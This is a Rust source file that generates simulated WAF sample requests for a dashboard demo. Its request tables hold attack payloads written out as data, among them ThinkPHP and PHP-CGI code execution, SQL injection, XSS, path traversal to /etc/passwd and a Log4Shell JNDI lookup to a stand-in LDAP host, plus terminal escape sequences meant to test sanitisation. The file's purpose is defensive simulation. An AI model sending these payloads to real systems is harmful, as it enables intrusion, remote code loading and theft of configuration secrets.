//! Sampled requests for one WAF rule: requests of the kind the rule catches (xmlrpc.php POSTs,
//! SQLi query strings, wp-login probes, scanners), from documentation address ranges.
//!
//! URIs are raw remote text, as a real source delivers them: some deliberately carry terminal
//! escape sequences. They are NOT sanitised here — the front ends must neutralise them, and the
//! demo is where that gets exercised.

use super::dynamics::Changes;
use super::waf::{Category, bucket};
use super::{DemoWorld, fnv64, rng_for};
use crate::model::waf::Header;
use crate::model::{RuleKind, RuleSamples, SampledRequest};
use crate::source::{ErrorKind, SourceError};
use rand::RngExt;
use rand::rngs::Xoshiro256PlusPlus;

/// AWS returns at most what it sampled; the panel shows a screenful.
const MAX_SAMPLES: u64 = 20;
/// Samples come from the last few minutes.
const SAMPLE_MINUTES: i64 = 3;

/// An OSC title change: harmless once neutralised, a retitled terminal if not.
const HOSTILE_OSC: &str = "\x1b]0;pwned\x07";
/// Clear screen.
const HOSTILE_CLEAR: &str = "\x1b[2J";

const ATTACKER_COUNTRIES: &[&str] = &[
    "CN", "RU", "US", "NL", "VN", "BR", "DE", "IN", "KR", "SG", "UA", "FR",
];

fn pick<'a>(rng: &mut Xoshiro256PlusPlus, items: &[&'a str]) -> &'a str {
    items[rng.random_range(0..items.len())]
}

/// An address from one of the three documentation ranges.
fn doc_ip(rng: &mut Xoshiro256PlusPlus) -> String {
    let net = pick(rng, &["192.0.2", "198.51.100", "203.0.113"]);
    format!("{net}.{}", rng.random_range(1..255u8))
}

/// Who sends a category's requests.
#[derive(Debug, Clone, Copy)]
enum Senders {
    /// Anyone on the internet: documentation addresses from anywhere.
    Anyone,
    /// The office's two fixed addresses (S1's CMS editors).
    Office,
    /// S3's handheld terminals, all in Japan.
    Terminals,
    /// One client hammering the login (S3's rate-based rule).
    OneAbuser,
    /// The `/xmlrpc.php` flood (S4): most of it from three addresses, except those in the IP
    /// set (their requests end at the set's rule).
    Flood,
    /// The addresses in the IP set at the request's time.
    Listed,
}

/// The (method, URI) pairs typical of a category, and who sends them.
fn profile(category: Category) -> (Senders, &'static [(&'static str, &'static str)]) {
    use Category::*;
    match category {
        Xmlrpc => (
            Senders::Flood,
            &[
                ("POST", "/xmlrpc.php"),
                ("POST", "//xmlrpc.php"),
                ("GET", "/xmlrpc.php?rsd"),
            ],
        ),
        WpAdmin => (
            Senders::Anyone,
            &[
                ("POST", "/wp-login.php"),
                ("GET", "/wp-login.php"),
                ("GET", "/wp-admin/"),
                ("GET", "/wp-admin/install.php"),
                ("GET", "/wp-login.php?action=register"),
                ("POST", "/wp-admin/admin-ajax.php"),
            ],
        ),
        IpReputation => (
            Senders::Anyone,
            &[
                ("GET", "/"),
                ("GET", "/?p=42"),
                ("GET", "/feed/"),
                ("GET", "/wp-content/uploads/2022/02/taltal.jpg"),
                ("GET", "/?s=%E3%81%82"),
            ],
        ),
        Php => (
            Senders::Anyone,
            &[
                (
                    "GET",
                    "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id",
                ),
                (
                    "POST",
                    "/?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input",
                ),
                ("GET", "/wp-content/plugins/hello.php?cmd=system('id')"),
                (
                    "GET",
                    "/index.php?page=php://filter/convert.base64-encode/resource=wp-config",
                ),
            ],
        ),
        WordPress => (
            Senders::Anyone,
            &[
                (
                    "GET",
                    "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php",
                ),
                ("GET", "/?author=1"),
                ("GET", "/wp-json/wp/v2/users"),
                (
                    "GET",
                    "/wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php",
                ),
                ("GET", "/wp-config.php.bak"),
            ],
        ),
        Sqli => (
            Senders::Anyone,
            &[
                ("GET", "/mt/mt-search.cgi?search=1%27%20OR%20%271%27%3D%271"),
                (
                    "GET",
                    "/?id=1%20UNION%20SELECT%20author_name,author_password%20FROM%20mt_author--",
                ),
                (
                    "GET",
                    "/news/index.html?page=1;WAITFOR%20DELAY%20%270:0:5%27--",
                ),
                ("GET", "/mt/mt-search.cgi?IncludeBlogs=1%20AND%20SLEEP(5)"),
            ],
        ),
        Xss => (
            Senders::Anyone,
            &[
                ("GET", "/?q=%3Cscript%3Ealert(1)%3C/script%3E"),
                ("POST", "/mt/mt-comments.cgi"),
                ("GET", "/search/?q=<svg/onload=alert(document.domain)>"),
                (
                    "GET",
                    "/contact/?name=%22%3E%3Cimg%20src=x%20onerror=prompt(1)%3E",
                ),
            ],
        ),
        CmsOffice => (
            Senders::Office,
            &[
                ("GET", "/mt/mt.cgi?__mode=dashboard"),
                ("POST", "/mt/mt.cgi"),
                ("GET", "/mt/mt.cgi?__mode=list&_type=entry&blog_id=1"),
                ("GET", "/mt-static/js/mt_core_compact.js"),
            ],
        ),
        CmsOutside => (
            Senders::Anyone,
            &[
                ("POST", "/mt/mt.cgi"),
                ("GET", "/mt/mt-xmlrpc.cgi"),
                ("GET", "/mt/mt-upgrade.cgi"),
                ("GET", "/mt/mt.cgi?__mode=view&_type=author"),
            ],
        ),
        Terminal => (
            Senders::Terminals,
            &[
                ("POST", "/handy/api/v1/orders"),
                ("POST", "/handy/api/v1/shipments"),
                ("GET", "/handy/api/v1/master?since=0600"),
            ],
        ),
        CommonCounted => (
            Senders::Anyone,
            &[
                ("POST", "/member/login.cgi"),
                ("GET", "/member/download.cgi?file=../../../../etc/passwd"),
                ("GET", "/cgi-bin/test-cgi"),
                ("GET", "/member/search.cgi?q=<script>"),
            ],
        ),
        BadInputs => (
            Senders::Anyone,
            &[
                (
                    "GET",
                    "/?x=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.66%3A1389%2Fa%7D",
                ),
                ("GET", "/member/%2e%2e/%2e%2e/etc/passwd"),
                ("GET", "/actuator/env"),
            ],
        ),
        RateLimit => (Senders::OneAbuser, &[("POST", "/member/login.cgi")]),
        // The request is the sender's usual one (see `request`).
        Listed => (Senders::Listed, &[("POST", "/xmlrpc.php")]),
    }
}

/// The deliberately hostile sample of a category (raw escape sequence in the URI), and its
/// position among the samples, so it shows up whenever the rule has a few.
fn hostile(category: Category) -> Option<(u64, &'static str, String)> {
    match category {
        Category::Xmlrpc => Some((1, "POST", format!("/xmlrpc.php?{HOSTILE_OSC}"))),
        Category::Sqli => Some((
            2,
            "GET",
            format!("/mt/mt-search.cgi?search={HOSTILE_CLEAR}%27%20OR%201=1--"),
        )),
        _ => None,
    }
}

/// (client IP, country, method, URI) of the `i`-th sample of a rule of this category, given the
/// addresses in the IP set at its time; `None` when the rule matched nobody then (the set's
/// rule while the set was empty).
fn request(
    category: Category,
    i: u64,
    rng: &mut Xoshiro256PlusPlus,
    in_set: &[String],
) -> Option<(String, String, String, String)> {
    let (senders, requests) = profile(category);
    let (mut method, mut uri) = requests[rng.random_range(0..requests.len())];
    let listed = |ip: &str| in_set.iter().any(|b| super::waf::same_address(b, ip));
    let (ip, country) = match senders {
        Senders::Anyone => (doc_ip(rng), pick(rng, ATTACKER_COUNTRIES).to_string()),
        Senders::Office => (
            pick(rng, &["203.0.113.10", "203.0.113.11"]).to_string(),
            "JP".to_string(),
        ),
        Senders::Terminals => (
            format!("198.51.100.{}", rng.random_range(1..255u8)),
            "JP".to_string(),
        ),
        Senders::OneAbuser => ("203.0.113.45".to_string(), "VN".to_string()),
        Senders::Flood => {
            let roll: f64 = rng.random_range(0.0..1.0);
            let mut upto = 0.0;
            let sender = super::waf::FLOOD.iter().find(|(_, share)| {
                upto += share;
                roll < upto
            });
            let anyone = (doc_ip(rng), pick(rng, ATTACKER_COUNTRIES).to_string());
            match sender {
                Some((ip, _)) if !listed(ip) => (ip.to_string(), flood_country(ip).to_string()),
                _ => anyone,
            }
        }
        Senders::Listed => {
            if in_set.is_empty() {
                return None;
            }
            let entry = &in_set[rng.random_range(0..in_set.len())];
            let ip = entry.strip_suffix("/32").unwrap_or(entry).to_string();
            (method, uri) = super::logs::usual_request(&ip);
            let country = flood_country(&ip).to_string();
            (ip, country)
        }
    };
    Some(match hostile(category) {
        Some((at, method, uri)) if at == i => (ip, country, method.to_string(), uri),
        _ => (ip, country, method.to_string(), uri.to_string()),
    })
}

/// What WAF reports as a sampled request's action, drawn in the proportions the counts use.
fn action(kind: &RuleKind, rng: &mut Xoshiro256PlusPlus) -> String {
    let per_100 = bucket(kind, 100);
    let roll = rng.random_range(0..100u64);
    if roll < per_100.allowed {
        "ALLOW"
    } else if roll < per_100.allowed + per_100.counted {
        "COUNT"
    } else {
        "BLOCK"
    }
    .to_string()
}

impl DemoWorld {
    /// Up to 20 requests the rule matched in the last 3 minutes, newest first.
    pub(super) fn samples_at(
        &self,
        changes: &Changes,
        acl_id: &str,
        rule: &str,
        now_ms: i64,
    ) -> Result<RuleSamples, SourceError> {
        let spec = self
            .estate
            .acls
            .iter()
            .find(|a| a.acl.id == acl_id)
            .ok_or_else(|| {
                SourceError::new(ErrorKind::NotFound, format!("no web ACL with id {acl_id}"))
            })?;
        let (waf_rule, traffic) = spec.rule(rule).ok_or_else(|| {
            SourceError::new(
                ErrorKind::NotFound,
                format!("web ACL {} has no rule named {rule}", spec.acl.name),
            )
        })?;
        let current = now_ms.div_euclid(60_000);
        let first = current - SAMPLE_MINUTES + 1;
        // The same counts as the rule's figures in the WAF panel.
        let recent: u64 = (first..=current)
            .map(|m| self.matched_in_minute(changes, spec, (rule, traffic), m, now_ms))
            .sum();
        let mut rng = rng_for(self.seed, &format!("samples/{acl_id}/{rule}"), current);
        let span = (now_ms - first * 60_000 + 1).max(1);
        let mut requests: Vec<SampledRequest> = (0..recent.min(MAX_SAMPLES))
            .filter_map(|i| {
                let t_ms = first * 60_000 + (rng.random_range(0.0..1.0) * span as f64) as i64;
                let in_set = changes.blocked_at(t_ms);
                let (client_ip, country, method, uri) =
                    request(traffic.category, i, &mut rng, &in_set)?;
                let kind = self.rule_kind_at(changes, acl_id, waf_rule, t_ms);
                let key = format!("{}/samples/{acl_id}/{rule}/{current}/{i}", self.seed);
                Some(SampledRequest {
                    time: self.instant(t_ms),
                    headers: headers(traffic.category, &key),
                    weight: weight(traffic.category, &key),
                    client_ip,
                    country,
                    method,
                    uri,
                    action: action(kind, &mut rng),
                })
            })
            .collect();
        requests.sort_by_key(|r| std::cmp::Reverse(r.time));
        Ok(RuleSamples {
            acl_id: acl_id.to_string(),
            rule: rule.to_string(),
            requests,
            window: Some((self.instant(first * 60_000), self.instant(now_ms))),
            population: Some(recent as i64),
        })
    }
}

/// Where the flood's senders (and the demo's other known senders) are.
fn flood_country(ip: &str) -> &'static str {
    match ip {
        "198.51.100.77" => "RU",
        "192.0.2.145" => "BR",
        "198.51.100.23" => "NL",
        "192.0.2.66" => "DE",
        _ => "US",
    }
}

/// The headers of a sample, as WAF reports them: what a client of that kind sends. Drawn from
/// a hash, not the sample's generator, so the other fields stay as they were.
fn headers(category: Category, key: &str) -> Vec<Header> {
    const BROWSERS: &[&str] = &[
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Mobile/15E148 Safari/604.1",
    ];
    const TOOLS: &[&str] = &["python-requests/2.31.0", "Go-http-client/1.1", "curl/8.4.0"];
    let user_agent = match category {
        Category::CmsOffice | Category::Terminal => BROWSERS[0],
        Category::IpReputation | Category::WordPress => {
            BROWSERS[(fnv64(key) % BROWSERS.len() as u64) as usize]
        }
        _ => TOOLS[(fnv64(key) % TOOLS.len() as u64) as usize],
    };
    vec![
        Header {
            name: "User-Agent".to_string(),
            value: user_agent.to_string(),
        },
        Header {
            name: "Accept".to_string(),
            value: "*/*".to_string(),
        },
    ]
}

/// How many requests a sample stands for: the flood is sampled thinner than it runs, so its
/// samples weigh up to 3 (WAF's `Weight`); everything else 1.
fn weight(category: Category, key: &str) -> u64 {
    match category {
        Category::Xmlrpc | Category::Listed => 1 + fnv64(key) % 3,
        _ => 1,
    }
}
